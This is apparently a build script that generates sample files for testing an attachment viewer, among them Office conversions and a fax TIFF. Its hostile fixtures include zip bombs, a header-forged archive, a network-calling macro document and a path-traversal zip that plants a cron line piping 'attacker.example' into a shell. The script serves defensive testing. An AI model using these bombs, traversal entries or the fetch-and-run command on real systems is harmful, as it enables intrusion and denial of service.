#!/usr/bin/env bash
# The sample org's Office documents, TIFF fax, HEIC photos and hostile files (README.md, "Documents"):
#   apt-get install libreoffice-writer-nogui libreoffice-calc-nogui libreoffice-impress-nogui \
#     ghostscript imagemagick python3 zip && bash sandbox/sample-files/src/documents/make-documents.sh
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
files=$(cd "$here/../.." && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export SOURCE_DATE_EPOCH=1773230400 TZ=UTC

# Office files as a customer's office suite saves them: flat OpenDocument XML, saved by LibreOffice.
/usr/bin/convert "$files/damage-front.jpg" -resize 480x360 -quality 70 -strip "$work/photo.jpg"
python3 "$here/flat-odf.py" "$work" "$work/photo.jpg"
office() { # source target-extension output-name
  soffice --headless --norestore -env:UserInstallation="file://$work/profile" \
    --convert-to "$2" --outdir "$work/out" "$work/$1" >/dev/null
  mv "$work/out/${1%.*}.${2%%:*}" "$files/$3"
}
office claim-letter.fodt docx claim-letter.docx
office ten-page-report.fodt docx ten-page-report.docx
# The same ten pages as a native PDF: the benchmark's yardstick for the Word file's rendition.
office ten-page-report.fodt pdf ten-page-report.pdf
office damaged-items.fods xlsx damaged-items.xlsx
office fleet-renewal.fodp pptx fleet-renewal.pptx
office claim-letter.fodt doc claim-letter-1997.doc

# A fax: the claim form and the policy's first page as a two-page G4 TIFF at fax resolution.
gs -q -dNOPAUSE -dBATCH -dSAFER -sDEVICE=tiffg4 -r204x196 -dLastPage=1 \
  -sOutputFile="$work/fax-%d.tif" "$files/claim-form.pdf"
gs -q -dNOPAUSE -dBATCH -dSAFER -sDEVICE=tiffg4 -r204x196 -dLastPage=1 \
  -sOutputFile="$work/fax-2.tif" "$files/policy-document.pdf"
tiffcp "$work/fax-1.tif" "$work/fax-2.tif" "$files/fax-claim-form.tif"

# A .docx that is a zip bomb: 128 MB of paragraphs that deflate to a few hundred kilobytes.
python3 - "$files/bomb.docx" <<'PY'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    para = '<w:p><w:r><w:t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</w:t></w:r></w:p>'
    with z.open("word/document.xml", "w") as f:
        f.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
        chunk = (para * 4096).encode()
        for _ in range(128 * 1024 * 1024 // len(chunk)):
            f.write(chunk)
        f.write(b"</w:body></w:document>")
PY

# A document with a macro: an OpenDocument text whose Basic macro, bound to the document's opening,
# would write /tmp/attachment-viewer-macro-ran and call out to the network. Converting must not run it.
python3 "$here/macro-document.py" "$files/claim-form-macro.odt"

# An email forwarded by the customer: text and HTML bodies, an inline logo (cid:), a PDF attached,
# and what must never run or load: a script, a form, a tracking pixel, a remote image, styles with url().
python3 "$here/forwarded-email.py" "$files/logo.png" "$files/claim-form.pdf" "$files/forwarded-estimate.eml"

# Archives: photos and documents in folders; and a hostile one whose names climb out of any folder.
python3 - "$files" <<'PY'
import sys, zipfile
files = sys.argv[1]
fixed = (2026, 3, 12, 9, 30, 0)
def add(z, name, data):
    info = zipfile.ZipInfo(name, fixed)
    info.compress_type = zipfile.ZIP_DEFLATED
    z.writestr(info, data)
with zipfile.ZipFile(f"{files}/claim-photos.zip", "w") as z:
    add(z, "photos/rear.jpg", open(f"{files}/damage-photo.jpg", "rb").read())
    add(z, "photos/front.jpg", open(f"{files}/damage-front.jpg", "rb").read())
    add(z, "documents/claim-form.pdf", open(f"{files}/claim-form.pdf", "rb").read())
    add(z, "documents/2025/old-invoice.pdf", open(f"{files}/old-invoice.pdf", "rb").read())
with zipfile.ZipFile(f"{files}/hostile.zip", "w") as z:
    add(z, "../../../etc/cron.d/update", "* * * * * root curl http://attacker.example/x | sh\n")
    add(z, "/tmp/owned.txt", "absolute path\n")
    add(z, "invoice.pdf.exe", b"MZ" + b"\0" * 64)
    add(z, "more/archive.zip", b"PK\x05\x06" + b"\0" * 18)
    # Bombs: 64 MB of zeros that says so, and 64 MB of zeros whose central directory claims 1 KB.
    add(z, "scans/page-1.pdf", b"\0" * (64 * 1024 * 1024))
    add(z, "scans/page-2.pdf", b"\0" * (64 * 1024 * 1024))
    # A document that opens through a further rendition (a PDF of the Word file).
    add(z, "notes/estimate.docx", open(f"{files}/claim-letter.docx", "rb").read())
# The central directory's uncompressed size of scans/page-2.pdf: 1,024 (the local header keeps the truth).
data = bytearray(open(f"{files}/hostile.zip", "rb").read())
name = b"scans/page-2.pdf"
at = data.find(b"PK\x01\x02" + b"\0" * 0)
while at >= 0:
    length = int.from_bytes(data[at + 28:at + 30], "little")
    if bytes(data[at + 46:at + 46 + length]) == name:
        data[at + 24:at + 28] = (1024).to_bytes(4, "little")
    at = data.find(b"PK\x01\x02", at + 4)
open(f"{files}/hostile.zip", "wb").write(bytes(data))
PY
# An encrypted entry (ZipCrypto, password claim-1007): listed and flagged, never opened.
mkdir -p "$work/enc/private" && cp "$files/statement.pdf" "$work/enc/private/statement.pdf"
touch -d "2026-03-12 09:30:00 UTC" "$work/enc/private/statement.pdf"
(cd "$work/enc" && zip -q -X -D -P claim-1007 "$files/hostile.zip" private/statement.pdf)
